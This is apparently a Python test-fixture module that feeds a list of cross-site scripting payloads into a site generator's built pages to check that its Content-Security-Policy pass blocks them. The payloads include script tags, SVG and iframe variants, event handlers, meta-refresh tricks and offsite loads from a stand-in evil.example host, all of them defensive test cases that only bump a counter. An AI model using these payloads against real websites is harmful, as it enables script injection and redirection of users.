"""Hostile markup that got past the sanitiser, as the Content-Security-Policy pass must meet it.

Each payload is put into a built page's article BEFORE the policy pass (``inject``), so the
pass sees it as it would see a sanitiser miss; run in Chromium, none may run, redirect or load
from another host. Every script payload bumps the ``__tn_pwned`` marker (helpers_security's
``visit`` reads it); a frame's script bumps its parent's. ``benchmarks/probe_hostile.py`` runs
the same list, so a case added here is probed there too.
"""

from __future__ import annotations

import re

MARK = "window.__tn_pwned=(window.__tn_pwned||0)+1"
PARENT_MARK = "parent.__tn_pwned=(parent.__tn_pwned||0)+1"
EVIL = "https://evil.example/"
"""Another host: a routed context refuses and records every request to it."""
REDIRECT = "tn-redirected/"
"""A same-site address a refresh payload points at (relative to the page): fetched only if the
refresh ran."""

INJECTED: dict[str, str] = {
    "script": f"<script>{MARK}</script>",
    "script-uppercase": f"<SCRIPT>{MARK}</SCRIPT>",
    "script-module": f"<script type=module>{MARK}</script>",
    "svg-script": f"<svg><script>{MARK}</script></svg>",
    "svg-script-href": f"<svg><script href=\"data:,{MARK}\"></script></svg>",
    "math-mtext-script": f"<math><mtext><script>{MARK}</script></mtext></math>",
    "iframe-srcdoc": f"<iframe srcdoc=\"<script>{PARENT_MARK}</script>\"></iframe>",
    "iframe-srcdoc-entities": f"<iframe srcdoc=\"&lt;script&gt;{PARENT_MARK}&lt;/script&gt;\">"
                              "</iframe>",
    "iframe-javascript": f"<iframe src=\"javascript:{PARENT_MARK}\"></iframe>",
    "iframe-data": f"<iframe src=\"data:text/html,<script>{PARENT_MARK}</script>\"></iframe>",
    "object-data": f"<object data=\"data:text/html,<script>{PARENT_MARK}</script>\"></object>",
    "embed-data": f"<embed src=\"data:text/html,<script>{PARENT_MARK}</script>\">",
    "img-onerror": f"<img src=\"nowhere.png\" onerror=\"{MARK}\">",
    "svg-onload": f"<svg onload=\"{MARK}\"></svg>",
    "details-ontoggle": f"<details open ontoggle=\"{MARK}\"><summary>x</summary></details>",
    "svg-animate-onbegin": f"<svg><animate onbegin=\"{MARK}\" attributeName=x dur=1s /></svg>",
    "meta-refresh": f"<meta http-equiv=\"refresh\" content=\"0;url={REDIRECT}\">",
    "meta-refresh-bare": f"<META HTTP-EQUIV=Refresh CONTENT=0;URL={REDIRECT}>",
    "meta-refresh-slashes": f"<meta/http-equiv=refresh/content=\"0;url={REDIRECT}\">",
    "meta-refresh-after-quote": f"<meta content=\"0;url={REDIRECT}\"http-equiv=refresh>",
    "meta-refresh-in-svg-style": f"<svg><style><meta http-equiv=refresh content=\"0;url="
                                 f"{REDIRECT}\"></style></svg>",
    "meta-refresh-offsite": f"<meta http-equiv=refresh content=\"0;url={EVIL}\">",
    "meta-refresh-javascript": f"<meta http-equiv=refresh content=\"0;url=javascript:{MARK}\">",
    "meta-policy-override": "<meta http-equiv=content-security-policy "
                            "content=\"script-src * 'unsafe-inline'\">"
                            f"<script>{MARK}</script>",
    "base-offsite": f"<base href=\"{EVIL}\">",
    "img-offsite": f"<img src=\"{EVIL}pixel.png\" alt=\"\">",
    "style-import-offsite": f"<style>@import url(\"{EVIL}x.css\");</style>",
    "script-src-offsite": f"<script src=\"{EVIL}x.js\"></script>",
    "script-src-data": f"<script src=\"data:text/javascript,{MARK}\"></script>",
    "link-prefetch-offsite": f"<link rel=prefetch href=\"{EVIL}prefetch\">",
}
"""Name -> markup. What a sanitiser miss could put into an article."""


def strip_policy(page: str) -> str:
    """``page`` without its Content-Security-Policy meta: a page as the pages step wrote it."""
    return re.sub(r'<meta http-equiv="Content-Security-Policy" content="[^"]*">', "", page)


def inject(page: str, markup: str) -> str:
    """``markup`` at the end of the page's article (or of its body), the policy taken out."""
    page = strip_policy(page)
    for end in ("</article>", "</body>"):
        if end in page:
            return page.replace(end, markup + end, 1)
    return page + markup
